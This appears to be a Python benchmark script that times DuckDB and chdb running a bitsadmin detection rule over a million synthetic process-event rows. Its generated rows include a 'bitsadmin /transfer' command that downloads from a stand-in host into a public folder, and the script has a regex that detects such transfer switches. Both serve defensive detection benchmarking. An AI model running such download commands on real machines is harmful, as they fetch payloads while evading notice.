"""The rule's first stage and its URL in DuckDB and chdb, over rows in memory.

    pip install duckdb chdb pyarrow
    python3 benches/peers/columns.py

The rows are like those of benches/columns.rs: a million, one match in a thousand.
One thread each, the best of seven runs, the answer checked first.
"""

import random
import time

import chdb
import duckdb
import pyarrow as pa

ROWS = 1_000_000
EVERY = 1_000
NAMES = ["svchost.exe", "conhost.exe", "cmd.exe", "powershell.exe", "chrome.exe", "msedge.exe", "taskhostw.exe",
         "RuntimeBroker.exe", "backgroundTaskHost.exe", "git.exe", "SearchProtocolHost.exe"]


def rows():
    random.seed(1)
    for number in range(ROWS):
        if number % EVERY == 0:
            yield "bitsadmin.exe", rf"bitsadmin /transfer job{number} http://files.example/{number} C:\Users\Public\a.bin"
            continue
        name = "bitsadmin.exe" if random.randrange(1000) == 0 else random.choice(NAMES)
        padding = "x" * random.randrange(140)
        yield name, rf'"C:\Windows\System32\{name}" -k netsvcs -p -s Schedule {number} {padding}'


names, lines = zip(*rows())
table = pa.table({"FileName": names, "ProcessVersionInfoOriginalFileName": names, "ProcessCommandLine": lines})
events = pa.Table.from_batches(table.to_batches(max_chunksize=65_536))


def measure(what, run):
    assert run() == ROWS // EVERY, what
    times = []
    for _ in range(7):
        start = time.perf_counter()
        run()
        times.append(time.perf_counter() - start)
    print(f"{what:24} best {min(times) * 1e3:8.2f} ms  median {sorted(times)[3] * 1e3:8.2f} ms")


# Length first, then the name; the switches only where a name fits. Neither engine has
# the Kusto `has`: its bounds are spelled out as a regular expression.
SWITCH = r"(^|[^a-z0-9])?/(transfer|addfile|addfileset|addfilewithranges)($|[^a-z0-9])"

duck = duckdb.connect(config={"threads": 1})
duck.register("events", events)
duck.execute("create table native as select * from events")
for source in ("events", "native"):
    query = f"""select count(*) from {source} where (lower(FileName) = 'bitsadmin.exe'
        or lower(ProcessVersionInfoOriginalFileName) = 'bitsadmin.exe')
        and regexp_matches(lower(ProcessCommandLine), '{SWITCH}')"""
    measure(f"duckdb, {source}", lambda: duck.execute(query).fetchone()[0])

session = chdb.session.Session()
condition = """(lower(FileName) = 'bitsadmin.exe' or lower(ProcessVersionInfoOriginalFileName) = 'bitsadmin.exe')
    and match(lower(ProcessCommandLine), '%s')""" % SWITCH.replace("\\", "\\\\")
session.query("create table native (FileName String, ProcessVersionInfoOriginalFileName String,"
              " ProcessCommandLine String) engine = Memory")
session.query("insert into native select * from Python(events) settings max_threads = 1")
for source in ("Python(events)", "native"):
    query = f"select count() from {source} where {condition} settings max_threads = 1, short_circuit_function_evaluation = 'enable'"
    measure(f"chdb, {source}", lambda: int(str(session.query(query, 'CSV')).strip()))
